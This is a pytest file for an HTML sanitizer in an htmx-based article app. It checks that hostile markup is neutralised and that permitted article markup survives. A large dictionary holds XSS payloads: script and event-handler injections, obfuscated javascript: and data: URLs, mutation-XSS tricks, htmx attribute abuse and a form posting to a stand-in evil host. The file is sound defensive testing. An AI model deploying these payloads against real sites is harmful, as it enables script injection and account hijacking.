"""The one HTML sanitizer, against hostile markup; and where the app puts its output.

Each hostile case checks two things: the named danger is gone, and the output as a
whole holds only what an article may contain (`assert_harmless`), read by a parser
the way a browser would read it.
"""

import html
import re
from html.parser import HTMLParser

import pytest

from sanitize import clean_html, plain_text

# What an article may contain: tag -> attributes. Independent of sanitize.py on purpose.
BARE_TAGS = (
    "p", "br", "hr", "h2", "h3", "h4", "strong", "b", "em", "i", "u", "s", "sub", "sup",
    "blockquote", "q", "cite", "code", "pre", "ul", "li", "figure", "figcaption", "table",
    "caption", "thead", "tbody", "tfoot", "tr",
)  # fmt: skip
GENERIC = {"title", "lang"}  # harmless on any element
ALLOWED = {
    **{tag: set() for tag in BARE_TAGS},
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan"},
    "ol": {"start"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}


class Markup(HTMLParser):
    """The tags, attributes and comments of an HTML fragment."""

    def __init__(self, fragment):
        super().__init__(convert_charrefs=True)
        self.tags = []  # (tag, {attribute: value})
        self.comments = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        self.comments.append(decl)

    def unknown_decl(self, data):
        self.comments.append(data)


def url_scheme(url):
    """The scheme a browser would see: it drops control characters and whitespace first."""
    url = re.sub(r"[\x00-\x20\x7f]", "", html.unescape(url))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match.group(1).lower() if match else None  # None: a relative URL


def assert_harmless(output):
    markup = Markup(output)
    assert markup.comments == [], output
    for tag, attrs in markup.tags:
        assert tag in ALLOWED, f"<{tag}> in {output!r}"
        extra = set(attrs) - ALLOWED[tag] - GENERIC
        assert not extra, f"<{tag} {extra}> in {output!r}"
        for name in ("href", "src"):
            if attrs.get(name) is not None:
                scheme = url_scheme(attrs[name])
                assert scheme in SAFE_SCHEMES | {None}, f"{name}={attrs[name]!r} in {output!r}"


def attributes(output):
    return {name for _, attrs in Markup(output).tags for name in attrs}


# --- Hostile markup ---------------------------------------------------------------------------

HOSTILE = {
    # Scripts and styles
    "script": "<p>before</p><script>alert(1)</script><p>after</p>",
    "script uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script split": "<scr<script>ipt>alert(1)</script>",
    "style element": "<style>body { display: none }</style><p>text</p>",
    "style attribute": '<p style="position:fixed;top:0;background:url(javascript:alert(1))">x</p>',
    # Event handlers
    "img onerror": '<img src="x.png" onerror="alert(1)">',
    "img onerror unquoted": "<img src=x onerror=alert(1)>",
    "a onclick": '<a href="https://example.com" onclick="alert(1)">x</a>',
    "body onload": '<body onload="alert(1)"><p>x</p></body>',
    "svg onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "p onmouseover": '<p onmouseover="alert(1)">x</p>',
    # Dangerous URLs
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "mixed case javascript": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "entity colon": '<a href="javascript&#58;alert(1)">x</a>',
    "entity letters": '<a href="&#106;avascript:alert(1)">x</a>',
    "hex entity colon": '<a href="javascript&#x3A;alert(1)">x</a>',
    "tab inside scheme": '<a href="java\tscript:alert(1)">x</a>',
    "entity tab inside scheme": '<a href="java&#x09;script:alert(1)">x</a>',
    "leading space": '<a href="  javascript:alert(1)">x</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data image": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "javascript image": '<img src="javascript:alert(1)" alt="x">',
    "file link": '<a href="file:///etc/passwd">x</a>',
    # Attributes that restyle the page or drive htmx
    "class and id": '<p class="admin-only" id="main">x</p>',
    "hx-get": '<p hx-get="/desk/delete" hx-trigger="load">x</p>',
    "hx-on": '<button hx-on:click="alert(1)">x</button><p hx-on::load="alert(1)">y</p>',
    "data-hx-post": '<p data-hx-post="/desk/publish" data-hx-trigger="load">x</p>',
    "hx-vals": "<p hx-vals='js:{a: alert(1)}' hx-post=\"/x\">x</p>",
    "data attribute": '<p data-secret="x">x</p>',
    # Embedded content and forms
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form": '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "svg": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "svg animate": '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "math href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    # Page-level elements
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # Comments
    "comment": "<p>a</p><!-- secret note --><p>b</p>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
    "downlevel-revealed": "<![if !IE]><img src=x onerror=alert(1)><![endif]>",
    "comment in attribute trick": '<p title="<!--"><img src=x onerror=alert(1)>-->">x</p>',
    # Malformed markup
    "misnested": "<p><b>x</p></b>",
    "unclosed": "<p>unclosed <em>emphasis <a href=https://example.com>link",
    "stray closing": "</p>stray</div></b>",
    "unterminated tag": '<img src="x.png" alt="a" onerror="alert(1)"',
    "null byte": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x o\x00nerror=alert(1)>",
    # Mutation XSS
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "textarea": "<textarea><img src=x onerror=alert(1)></textarea>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "select style": "<select><style><img src=x onerror=alert(1)></style></select>",
    "svg style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "backtick attribute": "<img src=`x` onerror=`alert(1)`>",
}


@pytest.mark.parametrize("dirty", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markup_is_made_harmless(dirty):
    assert_harmless(clean_html(dirty))


@pytest.mark.parametrize("dirty", HOSTILE.values(), ids=HOSTILE)
def test_cleaning_twice_changes_nothing(dirty):
    once = clean_html(dirty)
    assert clean_html(once) == once


@pytest.mark.parametrize("dirty", HOSTILE.values(), ids=HOSTILE)
def test_no_script_text_survives_as_markup(dirty):
    output = clean_html(dirty).lower()
    assert "<script" not in output
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", output), output
    assert not re.search(r"<[^>]*(java|vb)script:", output), output


def test_script_and_style_contents_are_dropped():
    output = clean_html("<script>alert(1)</script><style>p{}</style><p>kept</p>")
    assert output == "<p>kept</p>"


@pytest.mark.parametrize(
    "dirty",
    [
        "<p>before</p><script>alert(1)</script><p>after</p>",
        "<p>a</p><!-- secret note --><p>b</p>",
    ],
)
def test_text_around_removed_markup_is_kept(dirty):
    output = clean_html(dirty)
    assert len(re.findall(r"<p>", output)) == 2


@pytest.mark.parametrize(
    "dirty",
    [HOSTILE["javascript link"], HOSTILE["entity colon"], HOSTILE["data link"]],
)
def test_link_with_a_dangerous_url_keeps_its_text(dirty):
    output = clean_html(dirty)
    assert "href" not in attributes(output)
    assert output.endswith(">x</a>")


@pytest.mark.parametrize(
    ("dirty", "expected"),
    [
        ("<p><b>x</p></b>", "<p><b>x</b></p>"),
        ("<p>unclosed <em>emphasis", "<p>unclosed <em>emphasis</em></p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
    ],
)
def test_malformed_nesting_is_repaired(dirty, expected):
    assert clean_html(dirty) == expected


def test_stray_closing_tags_leave_the_text():
    output = clean_html("</p>stray</div></b>")
    assert "stray" in output
    assert_harmless(output)


def test_mutation_xss_noscript_leaves_no_live_handler():
    output = clean_html(HOSTILE["noscript title"])
    images = [attrs for tag, attrs in Markup(output).tags if tag == "img"]
    assert all("onerror" not in attrs for attrs in images), output


@pytest.mark.parametrize("empty", [None, "", "   "])
def test_nothing_gives_an_empty_string(empty):
    assert clean_html(empty) == ""


# --- Allowed markup ---------------------------------------------------------------------------

KEPT = {
    "paragraphs": "<p>One.</p>\n<p>Two, with <strong>bold</strong> and <em>emphasis</em>.</p>",
    "headings": "<h2>Section</h2>\n<h3>Subsection</h3>",
    "lists": '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
    "blockquote": "<blockquote><p>Quoted words.</p></blockquote>",
    "line break": "<p>line<br>break</p>",
    "relative image": '<img src="/static/photo.jpg" alt="A photo">',
    "https image": '<img src="https://example.com/photo.jpg" alt="A photo">',
    "image size": '<img src="photo.jpg" alt="A photo" width="640" height="480">',
    "table": (
        '<table><caption>Results</caption><thead><tr><th scope="col">Year</th></tr></thead>'
        '<tbody><tr><td colspan="2">2019</td></tr></tbody></table>'
    ),
    "figure": '<figure><img src="a.jpg" alt="a"><figcaption>Caption</figcaption></figure>',
    "code": "<pre><code>x &lt; y</code></pre>",
    "escaped text": "<p>1 &lt; 2 &amp; 3 &gt; 2, \u201cquoted\u201d caf\u00e9</p>",
}


@pytest.mark.parametrize("markup", KEPT.values(), ids=KEPT)
def test_allowed_markup_survives(markup):
    assert clean_html(markup) == markup


@pytest.mark.parametrize(
    "href",
    [
        "https://example.com/path?a=1&amp;b=2",
        "http://example.com/",
        "mailto:editor@example.com",
        "/section/news",
        "#footnote-1",
    ],
)
def test_links_with_safe_urls_survive(href):
    output = clean_html(f'<a href="{href}" title="More">text</a>')
    ((tag, attrs),) = Markup(output).tags
    assert (tag, attrs["href"], attrs["title"]) == ("a", html.unescape(href), "More")
    assert output.endswith(">text</a>")


def test_links_cannot_reach_back_to_the_opener():
    output = clean_html('<a href="https://example.com" target="_blank" rel="opener">x</a>')
    ((_, attrs),) = Markup(output).tags
    assert "target" not in attrs
    assert "opener" not in (attrs.get("rel") or "").split()


# --- plain_text -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "text"),
    [
        ("<p>Tom &amp; Jerry</p>", "Tom & Jerry"),
        ("<p>1 &lt; 2</p>", "1 < 2"),
        ("<p>caf\u00e9 &#8212; na&iuml;ve</p>", "caf\u00e9 \u2014 na\u00efve"),
        ("<p>  spread \n\n over   lines </p>", "spread over lines"),
        ("<script>alert(1)</script><p>kept</p>", "kept"),
        ("<style>p { color: red }</style><p>kept</p>", "kept"),
        ("<!-- note --><p>kept</p>", "kept"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
    ],
)
def test_plain_text(markup, text):
    assert plain_text(markup) == text


@pytest.mark.parametrize(
    "markup",
    [
        "<p>One.</p><p>Two.</p>",
        "<h2>One.</h2><p>Two.</p>",
        "<p>One.<br>Two.</p>",
        "<ul><li>One.</li><li>Two.</li></ul>",
    ],
)
def test_plain_text_keeps_words_of_separate_blocks_apart(markup):
    assert plain_text(markup) == "One. Two."


def test_plain_text_is_not_markup():
    """Its output is text: `&lt;b&gt;` comes back as the characters, for Jinja to escape."""
    assert plain_text("<p>&lt;b&gt;bold&lt;/b&gt;</p>") == "<b>bold</b>"


# --- In the app -------------------------------------------------------------------------------


class Ancestry(HTMLParser):
    """For each piece of text in a page: the elements it sits in, outermost first."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "wbr"}

    def __init__(self, page):
        super().__init__(convert_charrefs=True)
        self.open = []  # (tag, {attribute: value})
        self.texts = {}  # text -> the elements open around it
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            self.open.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        for depth in range(len(self.open) - 1, -1, -1):
            if self.open[depth][0] == tag:
                del self.open[depth:]
                return

    def handle_data(self, data):
        if data.strip():
            self.texts.setdefault(data.strip(), list(self.open))


@pytest.mark.parametrize("text", ["First paragraph.", "linked"])
def test_article_body_renders_inside_an_hx_disable_element(client, make_article, text):
    body = clean_html(
        '<p>First paragraph.</p><p>Second, <a href="https://example.com">linked</a>.</p>'
    )
    article = make_article(title="Bodied", body=body)
    page = client.get(f"/articles/{article.id}/{article.slug}").get_data(as_text=True)
    around = Ancestry(page).texts[text]
    assert any("hx-disable" in attrs for _, attrs in around), [tag for tag, _ in around]
